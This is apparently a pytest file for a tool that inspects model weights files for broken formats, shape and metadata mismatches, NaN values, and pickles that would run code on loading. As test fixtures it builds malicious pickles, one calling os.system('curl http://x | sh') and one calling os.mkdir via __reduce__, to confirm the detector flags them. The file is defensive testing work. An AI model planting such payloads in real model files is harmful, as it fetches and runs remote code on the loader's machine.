"""Each rule about weights finds the fault that is planted for it, and nothing where there is none."""

import json
import os
import pickle
from dataclasses import replace

import numpy as np
import pytest
from safetensors.numpy import save

from datapack.bag.model_facts import MODEL, ModelFacts, TrainedOn
from datapack.catalog.codes import NEEDS_CODE
from datapack.inspect.checks.weights import CODE
from datapack.weights.architectures import architectures
from datapack.weights.read import read_weights
from tests.inspect.planted import find, look
from tests.weights.pickles import Call, Name, module, state_dict, tensor, torch_zip, zip_file

ONE = np.arange(6, dtype=np.float32).reshape(2, 3)


class Evil:
    """A value whose pickle calls a function when it is loaded."""

    def __reduce__(self):
        return os.mkdir, ("x",)


EVIL = Call(Name("os", "system"), ("curl http://x | sh",))
PLACE = "sha256:" + "0" * 64
FACTS = ModelFacts("resnet50", "m.safetensors", trained_on=TrainedOn("reef@v1", PLACE, None))
RECORD = {
    "form": 1,
    "framework": "pytorch",
    "name": "resnet50",
    "categories": [[1, "crab"], [2, "fish"]],
    "min_size": 80,
    "max_size": 90,
    "dataset": {"reference": "reef@v1", "digest": PLACE},
    "split": {},
}


def arrays(name="resnet50", labels=3, **changes):
    """Return arrays with the names and shapes of an architecture, small numbers in all of them."""
    sides = architectures()[name].tensors
    shapes = {
        key: [int(one.strip("c") or 1) * (labels if "c" in one else 1) for one in row] for key, row in sides.items()
    }
    return {key: np.zeros(shape, np.float16) for key, shape in shapes.items()} | changes


def model(weights=None, facts=FACTS, record=None, **files):
    """Return the files of a model: its weights, and model.json."""
    metadata = None if record is None else {"trainers": json.dumps(record)}
    content = save({"w": ONE} if weights is None else weights, metadata)
    return {MODEL: facts.to_json(), facts.weights: content, **files}


def other(**changes):
    return replace(FACTS, architecture="other", **changes)


def unreadable(name, content):
    return {name: content, "README.md": b"x"}


VALUE, ARRAYS = state_dict()
NAN = np.array([1, np.nan, np.inf, 2], np.float32)
FAULTS = [
    (
        "DP601",
        unreadable("m.safetensors", b"hello"),
        "m.safetensors: not a safetensors file: expected at least 8 bytes",
    ),
    ("DP601", unreadable("m.pth", torch_zip(VALUE, ARRAYS)[:-30]), "m.pth: a broken ZIP archive, perhaps cut off"),
    ("DP601", unreadable("m.pt", torch_zip(VALUE, {})), "m.pt: a ZIP archive without the storage '0'"),
    (
        "DP601",
        model() | {"m.safetensors": save({"w": ONE})[:-4]},
        "m.safetensors: the file is cut off: its tensors need",
    ),
    ("DP601", model(facts=other(weights="m.bin")) | {"m.bin": b"abc"}, "m.bin: no weights file that datapack knows"),
    ("DP602", {"m.pth": torch_zip({**VALUE, "x": EVIL}, ARRAYS)}, "m.pth would run os.system('curl http://x | sh')"),
    ("DP602", {"m.pt": torch_zip(module("a.B", VALUE), ARRAYS)}, "m.pt would run a.B(...)"),
    ("DP602", {"m.bin": pickle.dumps({"x": Evil()}, 0)}, "m.bin would run posix.mkdir('x')"),
    ("DP601", {"m.bin": b"cos\nmkdir\n(S'x'\ntR\xff"}, "m.bin: a broken pickle"),
    ("DP601", {"m.bin": torch_zip(VALUE, ARRAYS)[:-30]}, "m.bin: a broken ZIP archive, perhaps cut off"),
    ("DP603", model(), "m.safetensors differs from resnet50 in 268 tensors"),
    ("DP603", model(arrays(**{"bn1.weight": ONE})), "m.safetensors differs from resnet50 in 1 tensors"),
    ("DP604", model(arrays(labels=4), replace(FACTS, categories=((1, "a"), (2, "b")))), "m.safetensors is for 4 categ"),
    ("DP605", model({"w": ONE.astype(np.float64)}, other()), "w has F64"),
    ("DP605", model({"w": ONE.astype(np.int8)}, other()), "w has I8"),
    ("DP606", model({"w": ONE, "n": NAN}, other()), "n has 2 of 4"),
    ("DP606", model({"n": NAN.astype(np.float16)}, other()), "n has 2 of 4"),
    (
        "DP608",
        model(record=RECORD | {"name": "x"}, facts=other()),
        "architecture: other in the catalog, x in m.safetensors",
    ),
    (
        "DP608",
        model(facts=other(trained_on=TrainedOn("reef@v2", PLACE)), record=RECORD | {"name": "other"}),
        "trained_on reference: reef@v2 in the catalog, reef@v1 in m.safetensors",
    ),
    ("DP608", model(facts=other(min_size=70), record=RECORD | {"name": "other"}), "min_size: 70 in the catalog, 80 in"),
    ("DP609", model(facts=other(trained_on=None)), "m.safetensors"),
    (
        "DP610",
        model(facts=other(weights="m.keras")) | {"m.keras": zip_file({"a": b""})},
        "m.keras: datapack does not open",
    ),
]


@pytest.mark.parametrize(("code", "files", "example"), FAULTS)
def test_a_fault(tmp_path, code, files, example):
    """One finding, with the file and what is wrong."""
    found = find(tmp_path, files)
    assert list(found) == [code]
    assert found[code].examples[0].startswith(example)
    assert len(found[code].files) == 1


SOUND = [
    model(arrays(labels=2), replace(FACTS, categories=((1, "crab"), (2, "fish")), min_size=80), RECORD),
    model(
        arrays("fcos_resnet50_fpn", 3),
        replace(FACTS, architecture="fcos_resnet50_fpn", categories=((1, "a"), (2, "b"))),
    ),
    model(arrays() | {"bn1.num_batches_tracked": np.array(3)}),
    model({"w": ONE, "count": np.array([1])}, other(trained_on=TrainedOn(text="fish"))),
    model(facts=other(weights="m.pth")) | {"m.pth": torch_zip({"w": tensor("0", ONE)}, {"0": ONE})},
    {"m.pth": torch_zip(VALUE, ARRAYS), "a.safetensors": save({"w": ONE.astype(np.float64)})},
    {"m.pth": torch_zip({"w": tensor("0", NAN)}, {"0": NAN})},  # numbers are for models
    {"data.bin": b"\x00\x01\x02" * 99, "words.pt": b"bom dia\n", "x.h5": b"\x89HDF\r\n\x1a\n" + bytes(99)},
    {MODEL: b'{"mine": 1}', "m.pth": torch_zip(VALUE, ARRAYS)},
    {"points.bin": b"\x80\2" + bytes(range(99)), "more.bin": b"S" * 999, "text.bin": b"(in a\nsentence\nR."},
]


@pytest.mark.parametrize("files", SOUND)
def test_nothing_is_found_in_sound_weights(tmp_path, files):
    """Nor in files of other kinds that have such names."""
    assert find(tmp_path, files) == {}


def test_a_web_page_has_one_finding(tmp_path):
    """It is not a weights file at all, which another rule says."""
    assert list(find(tmp_path, model() | {"m.safetensors": b"<!DOCTYPE html><html>"})) == ["DP108"]


def test_a_pickle_has_one_finding(tmp_path):
    """What is read as weights is not also a file that can run code; other pickles still are."""
    files = {"bad.pth": torch_zip({"x": EVIL}, {}), "good.pth": torch_zip(VALUE, ARRAYS), "a.pkl": b"\x80\2}."}
    found = find(tmp_path, files)
    assert {code: sorted(one.files) for code, one in found.items()} == {"DP602": ["bad.pth"], "DP110": ["a.pkl"]}
    assert found["DP602"].examples == (
        "bad.pth would run os.system('curl http://x | sh')",
        "bad.pth, says picklescan: dangerous: os.system",
    )


def test_many_pickles(tmp_path):
    """All are counted and named; picklescan, which takes a third of a second for each, sees those that are shown."""
    files = {f"{number}.pt": torch_zip({"x": EVIL, "n": number}, {}) for number in range(9)}
    found = find(tmp_path, files)["DP602"]
    assert (found.count, len(found.files), len(found.examples)) == (9, 9, 5)
    assert [bool(one.scan) for one in look(tmp_path, files).weights] == [True] * 5 + [False] * 4


def test_onnx(tmp_path, monkeypatch):
    """The checker's complaint is a finding; without the package, a note says how to install it."""
    onnx = pytest.importorskip("onnx")
    helper, kinds = onnx.helper, onnx.TensorProto
    weights = onnx.numpy_helper.from_array(ONE, "w")
    sides = [helper.make_tensor_value_info(name, kinds.FLOAT, [1, size]) for name, size in (("x", 2), ("y", 3))]

    def content(kind):
        graph = helper.make_graph([helper.make_node(kind, ["x", "w"], ["y"])], "g", sides[:1], sides[1:], [weights])
        return helper.make_model(graph).SerializeToString()

    assert find(tmp_path / "good", {"m.onnx": content("MatMul")}) == {}
    found = find(tmp_path / "bad", {"m.onnx": content("Nonsense")})
    assert list(found) == ["DP607"]
    assert found["DP607"].examples[0].startswith("m.onnx: No Op registered for Nonsense")
    assert list(find(tmp_path / "cut", {"m.onnx": content("MatMul")[:-5]})) == ["DP601"]
    assert read_weights(tmp_path / "good/data/m.onnx").tensors == {"w": ("F32", (2, 3))}
    monkeypatch.setattr("importlib.util.find_spec", lambda name: None)
    found = find(tmp_path / "without", {"m.onnx": content("MatMul")})
    assert list(found) == ["DP610"]
    assert "pip install 'datapack[onnx]'" in found["DP610"].examples[0]


def test_the_code_that_allow_pickle_accepts():
    """The catalog names the same rule."""
    assert CODE.code == NEEDS_CODE
